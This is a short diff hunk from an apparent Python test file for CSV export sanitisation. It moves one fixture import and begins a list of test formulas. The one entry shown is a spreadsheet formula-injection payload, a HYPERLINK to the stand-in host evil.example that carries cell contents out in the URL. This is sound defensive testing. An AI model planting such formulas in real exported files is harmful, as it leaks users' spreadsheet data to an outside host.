@@ -12,7 +12,7 @@ from annotations import services
 from annotations.exports import render_rows_csv, spreadsheet_safe
 from annotations.models import Assignment
 from scoring.reflect.figures import table_csv
-from tests.conftest import client_for
+from tests.support.django_fixtures import client_for
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
